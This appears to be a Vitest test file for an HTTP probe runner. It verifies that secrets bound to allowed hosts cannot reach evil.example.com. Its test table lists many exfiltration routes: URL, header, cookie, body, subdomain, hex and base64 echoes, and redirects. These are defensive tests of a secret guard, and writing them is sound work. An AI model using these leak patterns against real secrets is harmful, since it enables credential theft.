// biome-ignore-all lint/suspicious/noTemplateCurlyInString: braces of the language
import { tmpdir } from 'node:os'
import { pathToFileURL } from 'node:url'
import { v7 as uuidv7 } from 'uuid'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { variables } from '#db/schema/scoped.ts'
import { openStore } from '#server/bodies/store.ts'
import { createRunLoader } from '#server/runs/probes/run-loader.ts'
import { parseNetworks } from '#server/scripts/target-addresses.ts'
import { createVault } from '#server/vault.ts'
import { testDatabase } from '#test/support/database.ts'
import type { ProjectRow } from '#test/support/factories.ts'
import { type HttpTarget, readAll, startHttpTarget } from '#test/support/targets/http-target.ts'
import { createTransport } from '#worker/http/client.ts'
import { type ExecuteOptions, executeRun } from '#worker/probe/execute.ts'

// A secret with allowed hosts is never sent to another host, by any way that a script may try.

const SECRET = 'Xk7-q9/Zw+4v&T1=mB é'
const HOST = 'qz7xk94mt1bc'
const database = testDatabase()
let project: ProjectRow
let options: ExecuteOptions
let home: HttpTarget
let other: HttpTarget
let sent: string[]
let resolved: string[]

const api = () => `http://api.example.com:${home.port}`
const evil = () => `http://evil.example.com:${other.port}`

beforeAll(async () => {
  home = await startHttpTarget(async (request, response) => {
    const url = new URL(request.url ?? '', 'http://x')
    const body = await readAll(request)
    const to = url.searchParams.get('to')
    const location = to && { location: to.replace('SECRET', encodeURIComponent(SECRET)) }
    response.writeHead(to ? Number(url.searchParams.get('status') ?? 302) : 200, {
      ...location,
      'content-type': 'application/json',
      'set-cookie': `session=${encodeURIComponent(SECRET)}; Domain=example.com; Path=/`,
      'x-echo': request.headers.authorization ?? '',
    })
    response.end(
      JSON.stringify({
        raw: SECRET,
        hex: Buffer.from(SECRET).toString('hex'),
        base64: Buffer.from(`user:${SECRET}`).toString('base64'),
        body: body.toString(),
      }),
    )
  })
  other = await startHttpTarget((request, response) => {
    sent.push(`${request.method} ${request.url}`)
    response.end('thank you')
  })
  project = await database.create.project(await database.create.workspace(await database.create.organization()))
  const vault = createVault([{ id: 'test', secret: '0123456789abcdef'.repeat(4) }])
  options = {
    db: database.db,
    transport: createTransport({
      allowedNetworks: parseNetworks(['127.0.0.0/8']),
      resolver: async (host) => {
        resolved.push(host)
        return ['127.0.0.1']
      },
    }),
    bodies: { id: uuidv7(), store: openStore(pathToFileURL(tmpdir()).href) },
    runTimeoutMs: 60_000,
    load: createRunLoader(database.db, vault, { TRUSTED_DOMAIN_MODE: true, PROBE_ALLOWED_NETWORKS: ['127.0.0.0/8'] }),
  }
  const { organizationId, id: projectId } = project
  const hosts = [`api.example.com:${home.port}`, '*.deep.example.com']
  const rows = Object.entries({ token: SECRET, host: HOST, pin: '48213', short: 'ab', free: 'sent anywhere' }).map(
    ([key, value]) => {
      const id = uuidv7()
      const sealed = vault.seal(value, 'variable', organizationId, id)
      const allowedHosts = key === 'free' ? [] : hosts
      return { id, organizationId, projectId, key, type: 'secret' as const, sealed, allowedHosts }
    },
  )
  await database.db.insert(variables).values(rows)
})
beforeEach(() => {
  sent = []
  resolved = []
})
afterAll(() => Promise.all([home.close(), other.close()]))

async function perform(script: string) {
  const { id: serviceId, organizationId } = await database.create.service(project, { script, isActive: true })
  const run = { id: uuidv7(), attempt: 1, organizationId, serviceId, agentId: uuidv7(), agentSlug: 'local' }
  const finished = await executeRun(run, options, new AbortController().signal)
  const calls = finished?.result.raw?.calls as { outcome: string; error: string | null }[]
  return { finished, calls, error: calls?.find((call) => call.error)?.error, status: finished?.result.status }
}

const ask = (headers: string) => () => `get("${evil()}/", { headers: ${headers} }).wait(0)`
const first = (store: string, then: string) => () =>
  `get("${api()}/?t=$p.token").store(${store})\n${then.replace('EVIL', evil())}`

test.each<[string, () => string]>([
  ['in the URL', () => `get("${evil()}/$p.token").wait(0)`],
  ['in the query, coded', () => `get("${evil()}/?a=\${$p.token}").wait(0)`],
  ['in a header', ask('{ Authorization: "Bearer $p.token" }')],
  ['concatenated', ask('{ "X-A": "x" + $p.token + "y" }')],
  ['in a cookie', () => `get("${evil()}/", { cookies: { a: $p.token } }).wait(0)`],
  ['in a raw body', () => `post("${evil()}/", { body: "a $p.token b" }).wait(0)`],
  ['in JSON', () => `post("${evil()}/", { body: json({ a: [{ b: $p.token }] }) }).wait(0)`],
  ['in a form', () => `post("${evil()}/", { body: form({ a: $p.token }) }).wait(0)`],
  ['in the name of the host', () => `get("http://\${$p.host}.evil.example.com:${other.port}/").wait(0)`],
  ['stored before', first('{ "$$t": "a" + $p.token }', 'get("EVIL/?$$t").wait(0)')],
  ['echoed by its host', first('{ "$$t": this.body.raw }', 'get("EVIL/", { headers: { a: $$t } }).wait(0)')],
  ['echoed in hexadecimal', first('{ "$$t": this.body.hex }', 'post("EVIL/", { body: "$$t" }).wait(0)')],
  ['echoed in base64', first('{ "$$t": this.body.base64 }', 'post("EVIL/", { body: json({ a: $$t }) }).wait(0)')],
  ['in a cookie of its host', first('{ a: 1 }', 'get("EVIL/").wait(0)')],
  [
    'by a redirect of its host',
    () => `get("${api()}/?t=$p.token&to=${encodeURIComponent(`${evil()}/SECRET`)}").wait(0)`,
  ],
  [
    'with the body of a redirect',
    () => `post("${api()}/?status=307&to=${encodeURIComponent(`${evil()}/`)}", {
      body: json({ a: $p.token }), cookieJar: "named:a", redirects: { resendBody: true } }).wait(0)`,
  ],
  ['too short to be searched for', ask('{ "X-A": $p.short }')],
  ['in a computed number', () => `post("${evil()}/", { body: json({ a: $p.pin * 2 }) }).wait(0)`],
])('a secret is not sent to another host: %s', async (_, script) => {
  const { calls, error, status, finished } = await perform(script())
  expect(error).toMatch(
    /^the secret \$p\.\w+ may be sent to api\.example\.com:\d+, \*\.deep\.example\.com only, not to /,
  )
  expect([status, calls.at(-1)?.outcome]).toEqual(['failure', 'failure'])
  expect({ sent, resolved: resolved.filter((host) => host !== 'api.example.com') }).toEqual({ sent: [], resolved: [] })
  expect(JSON.stringify(finished)).not.toMatch(/Xk7-q9|qz7xk94mt1bc/i)
})

test('a secret is sent to its allowed hosts, and a secret without allowed hosts to any host', async () => {
  const deep = `http://a.deep.example.com:${other.port}`
  for (const script of [
    `post("${api()}/$p.token", { headers: { Authorization: "Bearer $p.token" }, body: json({ a: $p.token }) }).expect(status: 200)`,
    `get("${deep}/$p.token").expect(status: 200)`,
    `get("${evil()}/$p.free").expect(status: 200)`,
    `get("${api()}/?to=${encodeURIComponent(`${deep}/SECRET`)}").expect(status: 200)`,
  ]) {
    expect(await perform(script), script).toMatchObject({ status: 'success', error: undefined })
  }
  expect(sent).toHaveLength(3)
})

test('calls after the refused call are skipped', async () => {
  const { calls } = await perform(`get("${evil()}/$p.token").wait(0)\nget("${evil()}/").wait(0)`)
  expect(calls.map((call) => call.outcome)).toEqual(['failure', 'skipped'])
  expect(sent).toEqual([])
})
